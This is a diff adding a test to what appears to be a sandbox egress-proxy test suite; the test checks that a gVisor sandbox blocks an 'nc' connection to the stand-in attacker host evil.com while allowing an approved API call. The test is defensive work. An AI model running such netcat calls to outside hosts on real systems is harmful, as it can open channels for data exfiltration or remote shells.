@@ -142,6 +142,18 @@ describe.skipIf(!linuxDriverAvailable())("egress through the proxy (linux driver
     expect(r.stdout).toContain("hello from evil.com");
   });
 
+  it("polices a gVisor sandbox the same way", async () => {
+    if (!driver.gvisor) return;
+    const rn = runtimeNetworkOf(DOCS_EXAMPLE)!;
+    const h = await driver.create(spec("egr5", { runtimeClass: "gvisor", network: rn }));
+    proxy.setSandbox("egr5", h.address, DOCS_EXAMPLE);
+    const r = await agentSh(h, "curl -sS -m 5 https://api.stripe.com/g; echo; nc -w 1 evil.com 9000; echo nc=$?; grep -c 'BEGIN CERT' /.hangar/ca/bundle.crt");
+    expect(r.stdout).toContain("[REDACTED]");
+    expect(r.stdout).toContain("nc=1");
+    expect(Number(r.stdout.trim().split("\n").pop())).toBeGreaterThan(2);
+    await driver.destroy("egr5");
+  });
+
   it("keeps the egress sets across a server restart and empties them on destroy", async () => {
     const h = await createWith("egr4", { allowedDomains: ["httpbin.org"] });
     await driver.close();
